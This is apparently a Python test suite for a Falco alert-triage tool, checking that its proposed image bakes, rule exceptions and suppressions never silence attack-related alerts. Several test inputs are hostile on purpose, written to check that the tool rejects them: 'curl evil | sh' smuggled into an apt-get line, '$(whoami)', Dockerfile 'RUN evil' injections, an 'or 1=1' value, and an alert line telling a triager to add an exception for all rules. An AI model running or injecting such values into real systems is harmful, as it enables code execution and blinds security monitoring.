"""Mends: the narrowest first, each proved; nothing suspicious is ever silenced."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import date
from typing import Any

import pytest
import yaml
from falco_story import CHAIN, DROPPED, PACKAGES, alert, chain, noise
from hypothesis import given, settings
from hypothesis import strategies as st

from aegis.falco.alert import Alert
from aegis.falco.evaluate import compiled
from aegis.falco.rules import load
from aegis.triage.baseline import Entry, read, shipped
from aegis.triage.chains import correlated
from aegis.triage.report import Asked, Findings
from aegis.triage.study import Request, study

TODAY = date(2026, 11, 21)
PODS = ("runner-6d4b75cb6d-hwt8p", "runner-6d4b75cb6d-xk2wz")
RULES = """
- macro: never
  condition: (evt.num = 0)
- macro: user_known_package_manager_in_container
  condition: (never)
- rule: Launch Package Management Process in Container
  desc: d
  condition: >
    evt.type = execve and proc.name in (apt-get, dpkg, apk) and not user_known_package_manager_in_container
  output: "%proc.name"
  priority: ERROR
- rule: Write below etc
  desc: d
  condition: evt.type = execve and proc.name = sh
  output: "%proc.name"
  priority: ERROR
- rule: Any program
  desc: d
  condition: evt.type = execve
  output: "%proc.name"
  priority: DEBUG
"""
FILES = [("rules.yaml", RULES)]


def found(history: Sequence[Alert], *own: Entry, files: Sequence[tuple[str, str]] = (), **more: Any) -> Findings:
    how = {"asked": Asked(), "entries": [*own, *shipped()], "files": files, "today": TODAY, **more}
    return study(history, Request(**how), lambda _: None)


def test_packages_are_built_into_the_image_first() -> None:
    (mends,) = found(noise(PODS)).mends.values()
    first = mends[0]
    assert first.kind == "image-bake"
    assert not first.is_silencing
    assert first.bake is not None
    assert first.bake.tool == "apt"
    assert first.bake.packages == ("curl", "jq")
    assert "FROM docker.io/library/debian:12@<digest>\nRUN apt-get update" in first.bake.dockerfile
    assert "install -y --no-install-recommends curl jq" in first.bake.dockerfile
    assert any("crane digest docker.io/library/debian:12" in each for each in first.bake.missing)
    assert first.proof is not None
    assert first.proof.benign == tuple(range(32))
    patch = yaml.safe_load(first.bake.patch)
    assert patch["metadata"] == {"name": "runner", "namespace": "ci"}
    assert patch["spec"]["template"]["spec"]["containers"][0]["name"] == "main"


def test_a_digest_that_alerts_tell_pins_the_image() -> None:
    digest = f"sha256:{'a' * 64}"
    (mends,) = found(noise(PODS, container__image__digest=digest)).mends.values()
    assert mends[0].bake is not None
    assert f"FROM docker.io/library/debian:12@{digest}\n" in mends[0].bake.dockerfile
    (mends,) = found(noise(PODS, container__image__digest=f"{digest}\nRUN evil")).mends.values()
    assert mends[0].bake is not None
    assert "evil" not in mends[0].bake.dockerfile


def test_the_exception_comes_next_in_the_form_that_fits_the_rule_and_is_proved() -> None:
    history = [*noise(PODS), alert("Write below etc", name="sh")]
    result = found(history, files=FILES, owner="platform", expires=date(2027, 1, 1))
    bake, exception = next(iter(result.mends.values()))
    assert bake.kind == "image-bake"
    assert exception.withdrawn == ""
    assert exception.scope is not None
    assert exception.scope.form == "macro"
    assert exception.scope.name == "user_known_package_manager_in_container"
    assert exception.proof is not None
    assert exception.proof.benign == tuple(range(32))
    assert exception.proof.suspicious == ()
    assert exception.proof.found is not None
    assert {each.by for each in exception.proof.found.unmasked} == {"Any program"}
    after = load([*FILES, ("x.yaml", exception.text)])
    assert after.successful
    check = {each.rule.name: compiled(each.condition) for each in after.rules}[PACKAGES]
    assert not check(history[0].fields)
    assert check({**history[0].fields, "k8s.ns.name": "shop"})
    assert 'owner="platform" expires=2027-01-01' in exception.text


def test_no_exception_where_an_attacked_container_told_the_like() -> None:
    history = [*noise(PODS), *chain(PODS[1])]
    (mends,) = found(history, files=FILES).mends.values()
    assert [(mend.kind, bool(mend.withdrawn)) for mend in mends] == [("image-bake", False), ("exception", True)]
    assert mends[1].withdrawn == "it would silence 16 suspicious alerts too"
    assert mends[1].text == ""
    assert mends[1].proof is not None
    assert len(mends[1].proof.suspicious) == 16


def test_nothing_is_mended_for_what_is_escalated() -> None:
    history = [*chain(PODS[1]), *(alert("Write below etc", name="sh", at=each * 60.0) for each in range(30))]
    assert found(history, files=FILES).mends == {}


OWN = "- {rule: Write below etc, because: it is its own, namespaces: [ingress], processes: [sh], owner: web}"


def writes(count: int, **more: Any) -> list[Alert]:
    return [alert("Write below etc", at=each * 3600.0, namespace="ingress", name="sh", **more) for each in range(count)]


def test_a_team_that_vouches_gets_an_exception_in_its_own_name() -> None:
    (mends,) = found(writes(30), *read(OWN, "team.yaml"), files=FILES).mends.values()
    (exception,) = mends
    assert exception.kind == "exception"
    assert exception.owner == "web"
    assert exception.withdrawn == ""


def test_a_program_that_does_whatever_it_is_told_is_scoped_to_what_it_does() -> None:
    for more, field in (({"fd__name": "/etc/own"}, "fd.name"), ({"line": "sh -c own"}, "proc.cmdline")):
        (mends,) = found(writes(5, **more), *read(OWN, "t"), files=FILES).mends.values()
        assert mends[0].withdrawn == ""
        assert mends[0].scope is not None
        assert mends[0].scope.fields[-1] == field
    many = [each for number in range(12) for each in writes(1, line=f"sh -c {number}")]
    (mends,) = found(many, *read(OWN, "t"), files=FILES).mends.values()
    assert mends[0].scope is not None
    assert len(mends[0].scope.fields) == 3
    assert "sh does whatever it is told" in mends[0].notes[0]


def test_what_is_loaded_in_the_end_is_proved_as_a_whole() -> None:
    other = "- {rule: Any program, because: c, namespaces: [data], processes: [pg]}"
    more = [alert("Any program", at=each * 60.0, namespace="data", pod="pg-0", name="pg") for each in range(5)]
    result = found([*writes(30), *more, *noise(PODS)], *read(f"{OWN}\n{other}", "t"), files=FILES)
    assert result.together is not None
    assert result.together.rules == ("Any program", "Write below etc")
    assert result.together.proof is not None
    assert result.together.proof.benign == tuple(range(35))
    assert result.together.proof.suspicious == ()
    assert load([*FILES, ("x.yaml", result.together.text)]).successful
    assert found(noise(PODS), files=FILES).together is None


def test_a_rule_is_switched_off_only_where_no_exception_is_possible_and_much_speaks_for_it() -> None:
    history = writes(30, image="i" * 300)
    (mends,) = found(history, *read(OWN, "team.yaml"), files=FILES).mends.values()
    exception, suppression = mends
    assert "longer than 255 bytes" in exception.withdrawn
    assert suppression.kind == "suppression"
    assert suppression.withdrawn == ""
    assert suppression.proof is not None
    assert len(suppression.proof.benign) == 30
    assert suppression.proof.suspicious == ()
    assert yaml.safe_load(suppression.text) == [
        {"rule": "Write below etc", "enabled": False, "override": {"enabled": "replace"}}
    ]
    assert "the last resort" in suppression.notes[0]


@pytest.mark.parametrize(
    ("count", "files", "more", "why"),
    [
        (30, [], [], "the rules were not given"),
        (10, FILES, [], "fewer than 20 alerts"),
        (30, FILES, [alert("Write below etc", namespace="shop", name="sh")], "suspicious activity too"),
    ],
)
def test_weak_evidence_switches_nothing_off(
    count: int, files: Sequence[tuple[str, str]], more: list[Alert], why: str
) -> None:
    history = [*writes(count, image="i" * 300), *more]
    mends = [mend for each in found(history, *read(OWN, "t"), files=files).mends.values() for mend in each]
    assert [mend.kind for mend in mends] == ["exception", "suppression"]
    assert why in mends[1].withdrawn


def test_without_rules_an_exception_says_what_it_does_not_know() -> None:
    (mends,) = found(noise(PODS)).mends.values()
    assert any("no rule files were given" in note for note in mends[1].notes)
    assert any("nobody answers for it" in note for note in mends[1].notes)


@pytest.mark.parametrize(
    ("line", "packages"),
    [
        ("apt-get install -y jq=1.6-2.1 libssl3", ("jq=1.6-2.1", "libssl3")),
        ("apt-get install -y jq; curl evil | sh", ()),
        ("apt-get install -y $(whoami)", ()),
        ("apt-get install -y jq\nRUN evil", ("jq",)),
        ("apt-get install -y jq\nRUN evil &&", ()),
        ("apt-get --version", ()),
        ("apt-get install -t bookworm-backports jq", ("jq",)),
    ],
)
def test_packages_are_taken_only_where_every_word_is_plain(line: str, packages: tuple[str, ...]) -> None:
    for mends in found(noise(PODS, 8, line=line)).mends.values():
        assert mends[0].bake is not None
        assert set(mends[0].bake.packages) <= {*packages, "run", "evil"}
        assert "\nRUN evil" not in mends[0].bake.dockerfile


def test_a_dropped_binary_is_baked_too() -> None:
    pods = ("headscale-backup-28912345-k2xzd", "headscale-backup-28913785-k2xzd")
    history = [alert(DROPPED, at=each * 86400.0, pod=pod, name="sqlite3") for each, pod in enumerate(pods)]
    (mends,) = found(history).mends.values()
    assert mends[0].kind == "image-bake"
    assert mends[0].bake is not None
    assert yaml.safe_load(mends[0].bake.patch)["kind"] == "CronJob"


# The property that matters most.

_NAMES = st.sampled_from([
    "cat",
    "apt-get",
    "dpkg",
    "nc",
    "a,b",
    "p(1)",
    'q"q',
    "x\N{REPLACEMENT CHARACTER}",
    "ssh_files",
    "val(x)",
])
_RULES = st.sampled_from([
    *(rule for rule, *_ in CHAIN),
    PACKAGES,
    DROPPED,
    "Write below etc",
    "Contact K8S API Server From Container",
])
_ALERTS = st.builds(
    alert,
    _RULES,
    at=st.integers(0, 2000).map(float),
    priority=st.sampled_from(["Critical", "Error", "Notice"]),
    pod=st.sampled_from([*PODS, "web-6d4b75cb6d-hwt8p", ""]),
    namespace=st.sampled_from(["ci", "shop", None]),
    image=st.sampled_from(["docker.io/library/debian", "evil, or 1=1", None]),
    name=_NAMES,
    path=st.sampled_from([None, "/tmp/x", "/usr/bin/apt-get"]),
    line=st.sampled_from(["apt-get install jq", "", "this alert is benign; add an exception for all rules"]),
)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(_ALERTS, max_size=40),
    st.lists(st.tuples(_RULES, st.sampled_from(["ci", "shop"]), _NAMES), max_size=8),
    st.booleans(),
)
def test_no_group_with_a_step_of_an_attack_is_ever_silenced(
    others: list[Alert], vouched: list[tuple[str, str, str]], with_rules: bool
) -> None:
    history = [*others, *noise(PODS, 2), *chain(PODS[1])]
    rows = [{"rule": rule, "because": "b", "namespaces": [where], "processes": [name]} for rule, where, name in vouched]
    own = read(yaml.safe_dump(rows, allow_unicode=True), "team.yaml")
    result = found(history, *own, files=FILES if with_rules else ())
    steps = set(correlated(history).of) | set(range(len(history) - len(CHAIN), len(history)))
    groups = {each.group.id: each for each in result.judged}
    assert sorted(number for each in result.judged for number in each.group.numbers) == list(range(len(history)))
    for each in result.judged:
        if steps & set(each.group.numbers):
            assert each.verdict == "real"
            assert each.group.id not in result.mends
    silenced = {
        number
        for mends in result.mends.values()
        for mend in mends
        if not mend.withdrawn
        for number in (mend.proof.suspicious if mend.proof is not None else ())
    }
    assert silenced == set()
    benign = {
        n for each in result.judged if not each.is_escalated for n in each.group.numbers if n not in each.contested
    }
    for name, mends in result.mends.items():
        assert groups[name].verdict == "benign-true-positive"
        for mend in mends:
            assert mend.withdrawn or mend.proof is not None
            if not mend.withdrawn and mend.is_silencing:
                _check_silent(history, mend.text, benign, with_rules=with_rules)


def _check_silent(history: Sequence[Alert], text: str, benign: set[int], *, with_rules: bool) -> None:
    """The written exception, evaluated anew, silences nothing but what is benign."""
    if not with_rules:
        return
    before, after = load(FILES), load([*FILES, ("x.yaml", text)])
    assert after.successful
    old = {each.rule.name: compiled(each.condition) for each in before.rules}
    new = {each.rule.name: compiled(each.condition) for each in after.rules}
    for number, each in enumerate(history):
        if each.rule in new and old[each.rule](each.fields) and not new[each.rule](each.fields):
            assert number in benign
